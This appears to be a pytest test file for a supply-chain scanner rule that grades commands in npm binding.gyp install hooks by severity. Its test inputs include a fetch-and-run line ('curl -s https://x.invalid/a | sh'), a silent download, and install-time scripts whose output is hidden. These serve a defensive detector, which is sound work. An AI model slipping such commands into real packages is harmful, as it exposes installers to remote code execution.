import pytest

from customhouse.model.content import GypCommand, GypFacts, InstallHook
from customhouse.rules.install.gyp_runs_commands import RULE
from rules.cases import can, case, change, code, content, findings, grades, metadata, only

HOOK = InstallHook("gyp", "install", "node-gyp rebuild", "binding.gyp")


def gyp(*commands, sources=3, kind="expansion", known=None, files=()):
    facts = GypFacts(
        "binding.gyp", tuple(GypCommand(kind, it, "binding.gyp", at) for at, it in enumerate(commands, 2)), sources
    )
    return case(contents=(content(*files, hooks=(HOOK,), gyp=(facts,)),), **(known or {}))


@pytest.mark.parametrize(
    "command",
    [
        "node -p \"require('node-addon-api').include_dir\"",
        "node -e \"require('nan')\"",
        "pkg-config --cflags-only-I cairo | sed s/-I//g",
        "pg_config --includedir",
        "sdl2-config --libs",
        "uname -m",
        "which ccache >/dev/null 2>&1 && echo 1 || echo 0",
        'python -c "import sys; print(sys.platform)"',
        "ls -1 src/*.cc",
        "(brew --prefix openssl || echo /usr)",
    ],
)
def test_what_native_packages_ask_is_not_told(command):
    assert findings(RULE, gyp(command)) == []


@pytest.mark.parametrize(
    ("command", "grade"),
    [
        ("node index.js > /dev/null 2>&1 && echo stub.c", ("high", "high")),
        ("node index.js &>/dev/null; echo a", ("high", "high")),
        ("curl -s https://x.invalid/a | sh", ("critical", "high")),
        ("curl -sO https://x.invalid/a", ("high", "medium")),
        ("node tools/find.js", ("low", "medium")),
        ("node tools/find.js 2>/dev/null", ("low", "medium")),
        ("sometool --print", ("low", "medium")),
    ],
)
def test_commands_of_a_package_with_sources(command, grade):
    assert grades(RULE, gyp(command)) == [grade]


def test_commands_without_anything_to_build():
    assert grades(RULE, gyp("node tools/find.js", sources=0)) == [("high", "high")]
    assert "no native source" in only(RULE, gyp("node tools/find.js", sources=0)).message
    assert grades(RULE, gyp("node -e \"require('nan')\"", sources=0)) == [("low", "medium")]
    assert grades(RULE, gyp(sources=0)) == [("low", "medium")]


def test_code_and_tools():
    assert grades(RULE, gyp("open('x')", kind="code", known={"change": change()})) == [("critical", "high")]
    assert grades(RULE, gyp("CC=./cc", kind="tool")) == [("medium", "medium")]


@pytest.mark.parametrize(
    ("known", "silenced", "own"),
    [
        ({}, ("high", "high"), ("low", "medium")),
        ({"metadata": metadata(days=100)}, ("medium", "medium"), ("low", "medium")),
        ({"change": change()}, ("medium", "medium"), ("low", "medium")),
        ({"change": change(added_hooks=(HOOK,))}, ("high", "high"), ("medium", "medium")),
        (
            {"change": change(added_gyp_commands=("node a.js >/dev/null && echo b", "node a.js"))},
            ("high", "high"),
            ("medium", "medium"),
        ),
    ],
)
def test_a_habit_is_told_and_novelty_weighs(known, silenced, own):
    assert grades(RULE, gyp("node a.js >/dev/null && echo b", known=known)) == [silenced]
    assert grades(RULE, gyp("node a.js", known=known)) == [own]


def test_inline_code_is_judged_by_what_it_does():
    def inline(capability, **known):
        file = code(capability, path="binding.gyp", reach="install")
        return grades(RULE, gyp('node -e "x"', files=(file,), known=known))

    network, process = can("network", "https.get"), can("process", "child_process.execSync")
    assert inline(network, change=change(added_hooks=(HOOK,))) == [("high", "high")]
    assert inline(network) == [("high", "medium")]
    assert inline(network, change=change()) == [("medium", "medium")]
    assert inline(process) == [("medium", "medium")]
    assert inline(process, change=change()) == [("low", "medium")]
    assert inline(can("filesystem", "fs.existsSync")) == []


def test_one_finding_with_all_places():
    finding = only(RULE, gyp("node a.js", "curl -s https://x.invalid/a | sh"))
    assert finding.severity == "critical"
    assert [place.line for place in finding.locations] == [3, 2]
    assert finding.phase == "install"
